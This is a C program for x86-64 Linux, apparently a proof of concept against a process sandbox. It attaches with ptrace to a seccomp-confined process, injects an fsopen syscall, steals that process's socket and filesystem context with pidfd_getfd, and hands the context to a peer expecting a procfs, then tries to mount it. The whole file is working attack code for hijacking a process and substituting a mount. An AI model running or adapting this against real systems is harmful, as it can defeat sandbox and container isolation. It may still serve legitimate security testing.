/* Takes over the process that opens a procfs in its pid namespace, has it open a context of another filesystem, keeps that too,
 * and hands it to who waits for a procfs. Notes "sent", and "mounted" if it could mount what was made of it. x86-64. */
#define _GNU_SOURCE
#include <errno.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

#define FSOPEN 430
#define FSMOUNT 432
#define PIDFD_OPEN 434
#define PIDFD_GETFD 438

#ifdef __x86_64__
/* Whether a seccomp filter holds for it: of those that come here, for what opens the procfs alone. */
static int confined(int pid)
{
	char path[64], text[4096];
	snprintf(path, sizeof path, "/proc/%d/status", pid);
	FILE *f = fopen(path, "r");
	size_t n = f ? fread(text, 1, sizeof text - 1, f) : 0;
	if (f)
		fclose(f);
	text[n] = 0;
	return strstr(text, "Seccomp:\t2") != NULL;
}

static int seize_next(void)
{
	for (int next = getpid() + 1;;)
		for (int pid = next; pid < next + 60; pid++) {
			if (!confined(pid) || ptrace(PTRACE_SEIZE, pid, 0, 0))
				continue;
			ptrace(PTRACE_INTERRUPT, pid, 0, 0);
			int status;
			if (waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status))
				return pid;
			next = pid + 1;
			break;
		}
}

/* Where a `syscall` instruction stands in its program. */
static unsigned long instruction(int pid)
{
	static unsigned char text[1 << 20];
	char path[64], line[256], mode[8];
	unsigned long low, high, found = 0;
	snprintf(path, sizeof path, "/proc/%d/maps", pid);
	FILE *f = fopen(path, "r");
	while (f && !found && fgets(line, sizeof line, f)) {
		if (sscanf(line, "%lx-%lx %7s", &low, &high, mode) != 3 || mode[2] != 'x' || strstr(line, "[v"))
			continue;
		struct iovec to = { text, sizeof text }, from = { (void *)low, high - low };
		long n = process_vm_readv(pid, &to, 1, &from, 1, 0);
		for (long i = 0; i + 1 < n && !found; i++)
			if (text[i] == 0x0f && text[i + 1] == 0x05)
				found = low + (unsigned long)i;
	}
	if (f)
		fclose(f);
	return found;
}

/* fsopen(type) by another process. */
static long open_by(int pid, const char *type)
{
	struct user_regs_struct regs;
	int status;
	ptrace(PTRACE_GETREGS, pid, 0, &regs);
	unsigned long place = (regs.rsp - 1024) & ~15ul;
	struct iovec from = { (void *)type, strlen(type) + 1 }, to = { (void *)place, strlen(type) + 1 };
	process_vm_writev(pid, &from, 1, &to, 1, 0);
	regs.orig_rax = (unsigned long)-1;
	regs.rax = FSOPEN;
	regs.rip = instruction(pid);
	regs.rdi = place;
	regs.rsi = 1;
	ptrace(PTRACE_SETREGS, pid, 0, &regs);
	ptrace(PTRACE_SINGLESTEP, pid, 0, 0);
	waitpid(pid, &status, __WALL);
	ptrace(PTRACE_GETREGS, pid, 0, &regs);
	return (long)regs.rax;
}

static void hand_over(int socket, int fd)
{
	int why = 0;
	union {
		struct cmsghdr h;
		char space[CMSG_SPACE(sizeof(int))];
	} control = { .h = { .cmsg_len = CMSG_LEN(sizeof(int)), .cmsg_level = SOL_SOCKET, .cmsg_type = SCM_RIGHTS } };
	memcpy(CMSG_DATA(&control.h), &fd, sizeof fd);
	struct iovec iov = { &why, sizeof why };
	struct msghdr m = { .msg_iov = &iov, .msg_iovlen = 1, .msg_control = &control, .msg_controllen = sizeof control };
	sendmsg(socket, &m, 0);
}

int main(int argc, char **argv)
{
	FILE *out = fopen(argc > 1 ? argv[1] : "/seen", "w");
	if (!out)
		return 1;
	setvbuf(out, NULL, _IOLBF, 0);
	fprintf(out, "ready\n");
	int pid = seize_next(), pidfd = (int)syscall(PIDFD_OPEN, pid, 0);
	int socket = (int)syscall(PIDFD_GETFD, pidfd, 0, 0);
	long there = open_by(pid, argc > 2 ? argv[2] : "tmpfs");
	int fs = (int)syscall(PIDFD_GETFD, pidfd, there, 0), go[2];
	if (socket < 0 || fs < 0 || pipe(go))
		fprintf(out, "nothing: %d %ld %d %d\n", socket, there, fs, errno);
	if (fork() == 0) {
		char c;
		if (unshare(CLONE_NEWUSER | CLONE_NEWNS))
			fprintf(out, "no namespace\n");
		if (write(go[1], "x", 1) != 1 || read(go[0], &c, 0))
			_exit(1);
		for (;;)
			if (syscall(FSMOUNT, fs, 1, 0) >= 0) {
				fprintf(out, "mounted\n");
				_exit(0);
			}
	}
	char c;
	if (read(go[0], &c, 1) != 1)
		return 1;
	hand_over(socket, fs);
	fprintf(out, "sent\n");
	usleep(300000);
	ptrace(PTRACE_DETACH, pid, 0, 0);
	for (;;)
		pause();
}
#else
int main(void)
{
	return 1;
}
#endif
